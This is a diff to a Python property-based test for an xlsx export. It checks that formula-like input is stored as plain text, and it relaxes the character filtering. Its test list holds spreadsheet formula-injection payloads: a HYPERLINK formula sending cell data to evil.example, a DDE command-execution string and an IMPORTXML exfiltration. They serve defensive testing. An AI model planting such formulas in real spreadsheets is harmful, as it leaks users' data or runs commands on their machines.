@@ -15,10 +15,9 @@ from regions.models import Region
 
 from .conftest import examples
 
-# Characters openpyxl refuses in a cell (control characters): a separate, known problem, see
-# test_xlsx_control_characters.py. Surrogates cannot be encoded at all.
-PRINTABLE = st.characters(exclude_categories=("Cs",),
-                          exclude_characters="".join(chr(c) for c in range(32) if ILLEGAL_CHARACTERS_RE.match(chr(c))))
+# Any character but surrogates (which cannot be encoded at all) and NUL (which PostgreSQL cannot store);
+# control characters the xlsx format cannot hold are dropped by write_text (test_xlsx_control_characters.py).
+PRINTABLE = st.characters(exclude_categories=("Cs",), exclude_characters="\x00")
 FORMULA_LIKE = [
     '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)",
     "=cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://x/?\",A2),\"//a\")", "-", "=", "@", "+", "=A1\n=A2",
@@ -44,6 +43,10 @@ def same_text(stored, written: str) -> bool:
 
 
 def assert_plain_string(cell, text: str) -> None:
+    text = ILLEGAL_CHARACTERS_RE.sub("", text)
+    assert cell.data_type != "f", (cell.coordinate, text)
+    if not text:
+        return  # nothing left to show (the text was only control characters): an empty cell
     assert cell.data_type == "s", (cell.coordinate, cell.data_type, text)
     assert same_text(cell.value, text), (cell.value, text)
     if text.startswith(FORMULA_PREFIXES):
